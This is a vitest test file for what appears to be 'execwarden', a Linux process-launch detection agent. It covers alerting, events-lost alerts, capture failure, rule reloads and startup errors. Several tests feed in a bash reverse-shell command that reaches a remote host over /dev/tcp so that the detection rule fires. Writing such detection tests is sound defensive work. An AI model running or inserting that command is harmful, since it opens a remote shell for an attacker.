/**
 * The agent's lifecycle without a kernel: a scripted event source, a fixture /proc and an
 * in-memory output. Covers what the live test cannot force on demand: the events-lost alert, a
 * reload that fails validation, and a source that cannot start.
 */
import { cpSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Agent } from '../../src/agent/agent.js';
import { resolveConfig, type AgentConfig } from '../../src/agent/config.js';
import { createLogger } from '../../src/agent/logger.js';
import { LOSS_RULE_NAME } from '../../src/agent/internal-alerts.js';
import type { EventSource } from '../../src/capture/event-source.js';
import type { CaptureStats, RawEvent } from '../../src/capture/raw-event.js';
import type { HostInfo } from '../../src/ecs/index.js';
import { ExecwardenError } from '../../src/errors.js';
import type { Sink, SinkStats } from '../../src/outputs/sink.js';
import { FixtureProcFs } from '../../src/process/index.js';
import { makeProcTree, removeTree, writeProcess } from '../process/proc-tree.js';
import { execEvent, forkEvent } from '../process/raw-events.js';
import { waitFor } from '../support/wait.js';

const ROOT = resolve(import.meta.dirname, '../..');
const SEED_RULE = '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39';
const HOST: HostInfo = {
  name: 'lab-host', hostname: 'lab-host', id: 'f00d', architecture: 'x86_64',
  os: { type: 'linux', kernel: '6.18.0', name: 'Debian GNU/Linux', version: '12', platform: 'debian', family: 'debian', full: 'Debian GNU/Linux 12' },
};

class ScriptedSource implements EventSource {
  onLoss?: (reason: 'overflow' | 'sequence-gap' | 'batch-dropped') => void;
  deliver: (events: RawEvent[]) => void = () => undefined;
  readonly counters: CaptureStats = {
    eventsByKind: { fork: 0, exec: 0, exit: 0, comm: 0, sid: 0, uid: 0, gid: 0, ptrace: 0, coredump: 0 },
    overflows: 0, sequenceGaps: 0, messagesRejected: 0, batchesDropped: 0, eventsDropped: 0,
    snapshotsPartial: 0, snapshotsGone: 0, snapshotsStale: 0, commsRenamed: 0, receiveBufferBytes: 4096, realtime: false,
  };
  died: string | null = null;
  constructor(private readonly failWith?: Error) {}
  failure(): string | null {
    return this.died;
  }
  async start(onBatch: (events: RawEvent[]) => void): Promise<void> {
    if (this.failWith) throw this.failWith;
    this.deliver = onBatch;
  }
  async stop(): Promise<void> {}
  stats(): CaptureStats {
    return this.counters;
  }
}

class MemorySink implements Sink {
  readonly name = 'memory';
  readonly docs: Record<string, unknown>[] = [];
  closed = false;
  async start(): Promise<void> {}
  write(doc: Record<string, unknown>): void {
    this.docs.push(doc);
  }
  async close(): Promise<void> {
    this.closed = true;
  }
  stats(): SinkStats {
    return { name: this.name, queued: 0, written: this.docs.length, dropped: 0, failures: 0 };
  }
}

function snapshot(argv: string[], exe: string, pid: number) {
  return {
    cmdline: Buffer.from(`${argv.join('\0')}\0`), cmdlineTruncated: false, comm: exe.split('/').pop()!, exe, cwd: '/',
    ppid: 100, pgid: 100, sid: 100, ttyNr: 0, startTicks: 9000 + pid, ruid: 0, euid: 0, rgid: 0, egid: 0, cgroup: '/', failed: [],
  };
}

function launch(pid: number, payload: string): RawEvent[] {
  return [forkEvent(100, pid), execEvent(pid, snapshot(['setsid', 'bash', '-c', payload], '/usr/bin/setsid', pid))];
}

describe('Agent', () => {
  let proc: string;
  let dir: string;
  const logger = createLogger({ level: 'silent' });

  beforeAll(() => {
    proc = makeProcTree();
    writeProcess(proc, { pid: 100, ppid: 1, comm: 'bash', argv: ['bash'], exe: '/usr/bin/bash', startTicks: 50 });
    dir = mkdtempSync(join(tmpdir(), 'execwarden-agent-'));
    cpSync(join(ROOT, 'rules'), join(dir, 'rules'), { recursive: true });
  });
  afterAll(() => {
    removeTree(proc);
    rmSync(dir, { recursive: true, force: true });
  });

  function config(): AgentConfig {
    const base = resolveConfig({ rules: { paths: [join(dir, 'rules')] } }, null);
    return { ...base, outputs: { queue: base.outputs.queue } };
  }

  async function start(source: ScriptedSource, sink: MemorySink): Promise<Agent> {
    return Agent.start(config(), { logger, source, procfs: new FixtureProcFs(proc), host: HOST, extraSinks: [sink] });
  }

  it('alerts, raises a throttled events-lost alert on overflow, and drains on stop', async () => {
    const source = new ScriptedSource();
    const sink = new MemorySink();
    const agent = await start(source, sink);
    const heard: Record<string, unknown>[] = [];
    agent.onAlert((alert) => heard.push(alert));
    source.deliver(launch(200, 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'));
    expect(sink.docs.some((d) => (d.rule as { id: string }).id === SEED_RULE)).toBe(true);
    expect(heard).toEqual(sink.docs);

    source.counters.overflows = 2;
    source.onLoss?.('overflow');
    await waitFor('the events-lost alert', () => sink.docs.some((d) => (d.rule as { name: string }).name === LOSS_RULE_NAME), 5000);
    const loss = sink.docs.find((d) => (d.rule as { name: string }).name === LOSS_RULE_NAME)!;
    expect(loss.message).toMatch(/2 kernel buffer overflows/);
    expect(agent.summary().losses).toEqual({ overflow: 1, 'sequence-gap': 0, 'batch-dropped': 0 });

    const text = (await import('../../src/agent/metrics.js')).renderMetrics(agent.metrics());
    expect(text).toMatch(/execwarden_events_lost_total\{cause="overflow"\} 2/);
    expect(text).toMatch(new RegExp(`execwarden_rule_matches_total\\{rule_id="${SEED_RULE}"`));

    await agent.stop();
    expect(sink.closed).toBe(true);
  });

  it('raises a critical alert and tells its owner when capture dies on its own', async () => {
    const source = new ScriptedSource();
    const sink = new MemorySink();
    const agent = await start(source, sink);
    try {
      const failed = new Promise<string>((resolve) => agent.onFailure(resolve));
      source.died = 'recvmsg on the proc connector: Bad file descriptor';
      expect(await failed).toBe('recvmsg on the proc connector: Bad file descriptor');
      const alert = sink.docs.find((d) => (d.rule as { name: string }).name === 'execwarden: capture stopped')!;
      expect(alert.message).toMatch(/no process launches are being watched/);
      expect((alert.event as { severity: number }).severity).toBe(99);
      // Told once, and a late listener hears it at once.
      expect(await new Promise<string>((resolve) => agent.onFailure(resolve))).toMatch(/Bad file descriptor/);
    } finally {
      await agent.stop();
    }
  });

  it('keeps the running rules when a reload finds errors, and takes good ones', async () => {
    const source = new ScriptedSource();
    const sink = new MemorySink();
    const agent = await start(source, sink);
    try {
      writeFileSync(join(dir, 'rules', 'broken.toml'), '[rule]\nname = 1\n');
      expect(await agent.reload()).toBe(false);
      source.deliver(launch(300, 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 #after-bad-reload'));
      expect(sink.docs.filter((d) => (d.rule as { id: string }).id === SEED_RULE)).toHaveLength(1);

      rmSync(join(dir, 'rules', 'broken.toml'));
      rmSync(join(dir, 'rules', 'execution_reverse_shell_via_background_process.toml'));
      expect(await agent.reload()).toBe(true);
      source.deliver(launch(301, 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 #after-good-reload'));
      expect(sink.docs.filter((d) => (d.rule as { id: string }).id === SEED_RULE)).toHaveLength(1);
      expect(agent.summary().reloads).toEqual({ ok: 1, failed: 1 });

      // An emptied folder is refused like a broken one: the running rules stay.
      for (const file of readdirSync(join(dir, 'rules')).filter((f) => f.endsWith('.toml'))) rmSync(join(dir, 'rules', file));
      const running = agent.summary().rules;
      expect(await agent.reload()).toBe(false);
      expect(agent.summary().rules).toEqual(running);
      expect(agent.summary().reloads).toEqual({ ok: 1, failed: 2 });
    } finally {
      cpSync(join(ROOT, 'rules'), join(dir, 'rules'), { recursive: true });
      await agent.stop();
    }
  });

  it('refuses to start on broken rules, naming file and position, and leaves nothing open', async () => {
    const bad = mkdtempSync(join(tmpdir(), 'execwarden-bad-rules-'));
    try {
      writeFileSync(join(bad, 'bad.toml'), '[metadata]\n[rule]\nquery = """process where ("""\n');
      const sink = new MemorySink();
      const base = resolveConfig({ rules: { paths: [bad] } }, null);
      const failure = Agent.start({ ...base, outputs: { queue: base.outputs.queue } }, { logger, source: new ScriptedSource(), procfs: new FixtureProcFs(proc), host: HOST, extraSinks: [sink] });
      await expect(failure).rejects.toMatchObject({ code: 'RULES_INVALID' });
      await expect(failure).rejects.toThrow(/bad\.toml:\d+:\d+/);
    } finally {
      rmSync(bad, { recursive: true, force: true });
    }
  });

  it('closes its outputs again when capture cannot start', async () => {
    const sink = new MemorySink();
    const source = new ScriptedSource(new ExecwardenError('EPERM', 'subscribing to the proc connector needs CAP_NET_ADMIN'));
    await expect(start(source, sink)).rejects.toThrow(/CAP_NET_ADMIN/);
    expect(sink.closed).toBe(true);
  });
});
